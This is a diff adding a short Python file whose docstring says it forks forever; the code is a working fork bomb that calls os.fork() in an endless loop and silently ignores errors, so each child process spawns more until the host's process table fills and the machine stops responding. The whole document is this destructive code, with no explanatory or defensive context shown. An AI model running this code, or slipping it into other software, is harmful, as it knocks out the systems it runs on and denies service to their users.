@@ -1,0 +1,8 @@
+"""Forks for ever, in every process."""
+
+import contextlib
+import os
+
+while True:
+    with contextlib.suppress(OSError):
+        os.fork()
